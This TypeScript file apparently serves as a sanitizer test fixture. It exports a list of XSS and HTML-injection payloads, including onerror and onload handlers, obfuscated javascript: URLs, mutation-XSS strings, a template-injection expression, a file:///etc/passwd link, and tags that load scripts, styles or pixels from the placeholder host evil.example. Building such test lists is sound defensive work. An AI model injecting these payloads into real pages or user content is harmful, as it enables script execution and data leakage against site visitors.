const code = "alert(1)";
const handlers = [
  ...[
    "img src=x onerror",
    "svg onload",
    "body onload",
    "iframe onload",
    "input autofocus onfocus",
    "details open ontoggle",
  ],
  ...[
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "select autofocus onfocus",
    "object data=x onerror",
  ],
  ...[
    "style onload",
    "textarea autofocus onfocus",
    "a href=x onmouseover",
    "div onpointerrawupdate",
    "math onclick",
  ],
];
const urls = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
  ],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:x",
  ],
  ...[
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
  ],
  ...[
    "//evil.example/x",
    'https://evil.example/x?a="onmouseover=alert(1)',
    'https://evil.example/"><script>alert(1)</script>',
  ],
];

/** A hundred texts that would run something, or fetch something, where a page takes them for HTML or follows them. */
export const payloads: string[] = [
  ...handlers.flatMap((tag) => [
    `<${tag}=${code}>`,
    `"><${tag}="${code}" x="`,
    `\`\`\`${tag}=${code}\n<${tag}=${code}>\n\`\`\``,
  ]),
  ...urls.flatMap((url) => [`[link](${url})`, `![picture](${url})`, `<a href="${url}">x</a>`]),
  ...[
    `<script>${code}</script>`,
    `<script src=https://evil.example/x.js></script>`,
    "<base href=https://evil.example/>",
  ],
  ...[
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
  ],
  ...[
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x",
  ],
  ...['<img src="https://evil.example/pixel.png">', "<svg><use href='https://evil.example/x.svg#a'></svg>"],
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ...[
    "[x]: https://evil.example/a.png\n\n![x]",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{constructor.constructor('alert(1)')()}}",
  ],
];
